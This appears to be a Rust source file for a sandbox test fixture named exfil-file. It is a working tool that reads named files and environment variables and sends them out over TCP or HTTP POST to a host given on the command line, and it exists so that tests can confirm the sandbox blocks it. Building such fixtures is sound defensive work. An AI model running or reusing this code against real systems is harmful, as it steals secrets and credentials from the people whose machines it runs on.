//! `exfil-file [--env NAME]... [--tcp HOST:PORT] [--http URL] PATH...`
//!
//! HOSTILE TEST FIXTURE: a tool that tries to steal secrets (files and
//! environment variables) and send them out over TCP and/or HTTP POST. The
//! sandbox is expected to stop it; the tests check that it does.
//!
//! Reports on stderr, one line each: `read <PATH>: ok|failed: <err>`,
//! `env <NAME>: ok|missing`, `sent tcp: ok|failed: <err>`,
//! `sent http: ok|failed: <err>`. Exit 0 only if at least one secret was read
//! and at least one send succeeded; 3 otherwise.

use std::io::Write;
use std::net::Shutdown;

use guest_net::http::{Url, request};

const USAGE: &str = "usage: exfil-file [--env NAME]... [--tcp HOST:PORT] [--http URL] PATH...";

fn main() {
    let (mut envs, mut tcp, mut http, mut paths) = (Vec::new(), None, None, Vec::new());
    let mut args = std::env::args().skip(1);
    while let Some(arg) = args.next() {
        if !matches!(arg.as_str(), "--env" | "--tcp" | "--http") {
            paths.push(arg);
            continue;
        }
        let Some(value) = args.next() else {
            eprintln!("{USAGE}");
            exit(2);
        };
        match arg.as_str() {
            "--env" => envs.push(value),
            "--tcp" => tcp = Some(value),
            _ => http = Some(value),
        }
    }

    let mut payload = b"EXFIL\n".to_vec();
    let mut stolen = 0;
    for path in &paths {
        match std::fs::read(path) {
            Ok(data) => {
                eprintln!("read {path}: ok");
                payload.extend_from_slice(format!("file:{path}\n").as_bytes());
                payload.extend_from_slice(&data);
                payload.push(b'\n');
                stolen += 1;
            }
            Err(e) => eprintln!("read {path}: failed: {e}"),
        }
    }
    for name in &envs {
        match std::env::var(name) {
            Ok(value) => {
                eprintln!("env {name}: ok");
                payload.extend_from_slice(format!("env:{name}={value}\n").as_bytes());
                stolen += 1;
            }
            Err(_) => eprintln!("env {name}: missing"),
        }
    }

    let mut sent = 0;
    if let Some(target) = &tcp {
        sent += report("tcp", send_tcp(target, &payload));
    }
    if let Some(url) = &http {
        sent += report("http", send_http(url, &payload));
    }
    if stolen == 0 || sent == 0 {
        exit(3);
    }
}

/// Prints `sent <channel>: ...` and returns 1 on success.
fn report(channel: &str, result: Result<(), String>) -> u32 {
    match result {
        Ok(()) => {
            eprintln!("sent {channel}: ok");
            1
        }
        Err(e) => {
            eprintln!("sent {channel}: failed: {e}");
            0
        }
    }
}

fn send_tcp(target: &str, payload: &[u8]) -> Result<(), String> {
    let (host, port) = guest_net::split_host_port(target)?;
    let addrs = guest_net::resolve(host, port).map_err(|e| format!("lookup {host}: {e}"))?;
    let mut stream = guest_net::connect_any(&addrs).map_err(|errors| {
        let errors: Vec<String> = errors.iter().map(|(a, e)| format!("connect {a}: {e}")).collect();
        errors.join("; ")
    })?;
    stream.write_all(payload).map_err(|e| e.to_string())?;
    stream.flush().map_err(|e| e.to_string())?;
    let _ = stream.shutdown(Shutdown::Write);
    Ok(())
}

fn send_http(url: &str, payload: &[u8]) -> Result<(), String> {
    let resp = request(&Url::parse(url)?, Some(payload))?;
    if (200..300).contains(&resp.status) { Ok(()) } else { Err(format!("status {}", resp.status)) }
}

/// Exits with `code`. (An `ExitCode` returned from `main` reaches a WASI 0.2
/// host only as success or failure, i.e. 0 or 1, hence `exit-with-code`.)
fn exit(code: u8) -> ! {
    let _ = std::io::stdout().flush();
    wasi::cli::exit::exit_with_code(code);
    unreachable!("exit-with-code returned")
}
